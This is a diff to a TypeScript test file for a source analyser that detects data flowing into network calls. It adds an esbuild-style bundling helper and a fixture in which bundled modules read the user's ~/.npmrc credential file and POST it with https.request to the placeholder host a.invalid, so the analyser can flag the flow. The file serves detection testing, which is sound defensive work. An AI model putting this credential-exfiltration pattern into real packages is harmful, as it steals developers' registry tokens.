@@ -7,6 +7,12 @@ function read(text: string): SourceFacts {
   return analyzeSource({ path: "index.js", text, language: "javascript" });
 }
 
+/** Modules as esbuild wraps them, each by a closure of its own; the last is loaded. */
+function bundleOf(modules: readonly string[]): string {
+  const wrapped = modules.map((text, at) => `var r${at + 1}=w({"m${at}.js"(e,m){${text}}});`);
+  return `var w=(cb,mod)=>function __require(){try{return mod||(0,cb[Object.getOwnPropertyNames(cb)[0]])((mod={exports:{}}).exports,mod),mod.exports}catch(e){throw mod=0,e}};${wrapped.join("")}r${modules.length}();`;
+}
+
 describe("analyzeSource follows what flows into", () => {
   test.each<readonly [string, string, readonly string[]]>([
     [
@@ -177,6 +183,18 @@ describe("analyzeSource follows what flows into", () => {
       "class Base{send(x){fetch('https://a.invalid/'+x)}}class Client extends Base{}module.exports=new Client()",
       "network fetch",
       ["parameter"],
+    ],
+    [
+      bundleOf([
+        "function gather(){if(!inv())return void 0;return require('fs').readFileSync(require('os').homedir()+'/.npmrc','utf8')}m.exports={gather}",
+        "function deliver(t){if(!t)return;const s=require('https').request({hostname:'a.invalid',method:'POST'});s.end(t)}m.exports={deliver}",
+        "m.exports=1",
+        "m.exports=2",
+        "m.exports=r3()+r4()",
+        "r5();r2().deliver(r1().gather())",
+      ]),
+      "network https.request",
+      ["credential-file"],
     ],
     ["exports.mail={send:[(x)=>fetch('https://a.invalid/'+x)]}", "network fetch", ["parameter"]],
     [
